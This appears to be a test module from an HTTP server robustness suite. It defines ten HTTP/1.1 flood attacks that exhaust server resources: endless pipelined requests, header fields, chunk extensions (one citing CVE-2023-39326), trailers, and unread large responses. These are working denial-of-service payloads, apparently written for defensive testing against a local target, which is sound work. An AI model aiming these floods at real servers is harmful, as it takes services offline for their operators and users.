"""HTTP/1.1: floods of requests and of everything that the framing allows without an end."""

from __future__ import annotations

from tests.attacks.attack import Attack
from tests.attacks.script import READY, MakeScript, Script, repeated

CONNECTIONS, UNREAD = 8, 11
PIPELINED = 100
END = b"\r\n\r\n"


def head(target: str = "/", *fields: str, method: str = "GET") -> bytes:
    """A request head without its last empty line."""
    return "\r\n".join([f"{method} {target} HTTP/1.1", "Host: localhost", *fields]).encode()


CHUNKED = head("/upload", "Transfer-Encoding: chunked", method="POST") + END


def flood(beginning: bytes, unit: bytes) -> MakeScript:
    """``beginning``, then the same bytes for ever."""

    def script(_secure: bool) -> Script:
        yield READY
        yield beginning
        yield from repeated(unit)

    return script


def pipelined_and_unread(_secure: bool) -> Script:
    """Requests for large responses that are never read."""
    yield READY
    yield (head("/large") + END) * PIPELINED


def _flood(name: str, title: str, beginning: bytes, unit: bytes) -> Attack:
    return Attack(name, title, "h1", CONNECTIONS, flood(beginning, unit))


ATTACKS = (
    _flood("pipelining", "pipelined requests without end", b"", head() + END),
    _flood("empty-lines", "empty lines before a request, without end", b"", b"\r\n"),
    _flood("request-line", "a request line without end", b"GET /", b"a"),
    _flood("fields", "header fields without end", head() + b"\r\n", b"x: y\r\n"),
    _flood("chunks", "an upload in chunks of one byte", CHUNKED, b"1\r\nx\r\n"),
    _flood("chunk-extension", "a chunk extension without end", CHUNKED + b"1;", b"x"),
    _flood("chunk-extensions", "chunks of one byte with an extension of 1 KiB (CVE-2023-39326)", CHUNKED,
           b"1;" + b"x" * 1024 + b"\r\nx\r\n"),
    _flood("chunk-size", "a chunk size of leading zeros without end", CHUNKED, b"0"),
    _flood("trailers", "trailers without end", CHUNKED + b"0\r\n", b"x: y\r\n"),
    Attack("unread", f"{UNREAD} x {PIPELINED} pipelined requests for 10 MiB, nothing is read", "h1", UNREAD,
           pipelined_and_unread, reads=False),
)  # fmt: skip
